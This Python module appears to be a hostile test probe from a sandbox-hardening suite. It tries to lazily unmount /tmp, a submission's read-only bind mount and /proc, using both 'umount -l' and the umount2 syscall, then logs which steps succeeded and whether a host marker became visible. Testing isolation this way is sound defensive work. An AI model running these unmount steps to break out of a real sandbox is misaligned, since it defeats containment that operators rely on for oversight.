"""Finding 2: lazily unmount the private /tmp (and the submission's read-only bind) to reach what is below."""

import ctypes
import os
import subprocess

from .hostile_util import Base, isolated


class Entry(Base):
    def load(self, ctx):
        if not isolated(ctx):
            self.leaked.append("not at the isolated level: attack not attempted")
            return
        for target in ("/tmp", str(ctx.submission_dir), "/proc"):
            try:
                if subprocess.run(["umount", "-l", target], capture_output=True, timeout=10).returncode == 0:
                    self.leaked.append(f"umount {target}")
            except OSError:
                pass
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.umount2(b"/tmp", 2) == 0:  # MNT_DETACH, straight through the syscall
            self.leaked.append("umount2 /tmp")
        if os.path.exists(self.params["marker"]):
            self.leaked.append("host marker visible")
